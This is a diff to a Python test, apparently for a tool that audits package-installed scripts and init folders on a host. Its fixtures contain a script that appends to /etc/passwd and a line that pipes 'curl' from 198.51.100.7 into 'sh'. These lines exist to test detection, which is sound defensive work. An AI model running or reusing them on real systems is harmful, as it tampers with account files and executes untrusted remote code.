@@ -60,7 +60,11 @@ def test_a_script_as_its_package_brought_it_may_use_any_folder(tmp_path: Path) -
     script = b"#!/bin/sh\n. /run/network/vendor-state\ngrep x /proc/self/status >> /etc/passwd\n"
     loads = script + b"curl -s http://198.51.100.7/x | sh\n"
     files = {hook: script, module: TOOL}
-    assert not found(host(tmp_path / "same" / "srv1", files, files), tmp_path / "a")
+    same = host(tmp_path / "same" / "srv1", files, files)
+    for note in ("etc/init.d/README", "etc/rc2.d/README"):
+        (same / note).parent.mkdir(parents=True)
+        (same / note).symlink_to("../../usr/share/doc/vendor/README")
+    assert not found(same, tmp_path / "a")
     assert len(found(host(tmp_path / "changed" / "srv1", files, {}), tmp_path / "b", "L072")) == 2
     assert len(found(tmp_path / "changed" / "srv1", tmp_path / "b", "L110")) == 1
     (foreign,) = found(host(tmp_path / "foreign" / "srv1", {hook: loads}, {hook: loads}), tmp_path / "c")
